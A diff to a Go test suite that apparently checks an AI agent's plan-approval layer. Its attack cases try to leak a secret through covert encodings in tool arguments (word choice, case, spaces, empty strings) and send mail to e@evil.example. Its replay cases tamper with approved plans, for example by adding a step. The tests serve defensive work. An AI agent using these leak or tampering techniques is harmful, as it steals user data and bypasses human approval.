@@ -85,7 +85,7 @@ var flows = []attack{
 	{name: "later round, words of the question", to: "evil", literal: true, bits: true, rounds: get + "],[" + step("check_data", `"arguments":{"data":"weather","more":["{SECRET|words}"]}`)},
 	{name: "later round, case of the question", to: "evil", literal: true, bits: true, rounds: get + "],[" + step("check_data", `"arguments":{"data":"{SECRET|case}"}`)},
 	{name: "later round, spaces in the question", to: "evil", literal: true, bits: true, rounds: get + "],[" + step("check_data", `"arguments":{"data":"{SECRET|spaces}"}`)},
-	{name: "later round, nothing at all", to: "evil", literal: true, bits: true, rounds: get + "],[" + step("check_data", `"arguments":{"data":"weather","more":[{SECRET|nulls}]}`)},
+	{name: "later round, number of empty texts", to: "evil", literal: true, bits: true, rounds: get + "],[" + step("check_data", `"arguments":{"data":"weather","more":["{SECRET|empty}"]}`)},
 	{name: "run", to: "evil", never: true, rounds: get + "," + step("run", `"arguments":{"tool":"check_data","parameters":{"data":"$x.note"}}`)},
 	{name: "write", to: "mail", write: true, rounds: step("send_mail", `"arguments":{"to":"e@evil.example","body":"hello"}`)},
 	{name: "write, in a loop", to: "mail", write: true, rounds: `{"id":"s","tool":"web_search","arguments":{"query":"sun"}},` + step("send_mail", `"each":"$s.results","arguments":{"to":"e@evil.example","body":"$item.title"}`)},
@@ -111,7 +111,7 @@ var (
 	eras     = []string{"2025-11-25", "2025-06-18", modernEra}
 	modes    = []string{"auto", "always", "never"}
 	answers  = []string{"accept", "decline", "cancel", ""}
-	replays  = []string{"given back", "without its approval", "by somebody else", "with other arguments"}
+	replays  = []string{"given back", "without its approval", "by somebody else", "with other arguments", "with one more step"}
 )
 
 // early reports whether the order is read before tools have answered.
@@ -274,17 +274,20 @@ func (v variant) giveBack(t *testing.T, w *world, plan json.RawMessage) {
 	if len(members["approval"]) < 10 {
 		t.Errorf("got the plan %s, want its approval", plan)
 	}
+	var steps []map[string]json.RawMessage
+	if err := json.Unmarshal(members["steps"], &steps); err != nil {
+		t.Fatal(err)
+	}
 	p := &person{w: w, path: v.path, era: v.era, key: keys[0]}
 	switch v.replay {
 	case "by somebody else":
 		p.key = keys[1]
 	case "without its approval":
 		delete(members, "approval")
+	case "with one more step":
+		steps = append(steps, map[string]json.RawMessage{"id": json.RawMessage(`"more"`), "tool": json.RawMessage(`"lookup_topic"`), "arguments": json.RawMessage(`{}`)})
+		members["steps"] = must(json.Marshal(steps))
 	case "with other arguments":
-		var steps []map[string]json.RawMessage
-		if err := json.Unmarshal(members["steps"], &steps); err != nil {
-			t.Fatal(err)
-		}
 		for _, s := range steps {
 			var arguments map[string]any
 			_ = json.Unmarshal(s["arguments"], &arguments) // it is an object
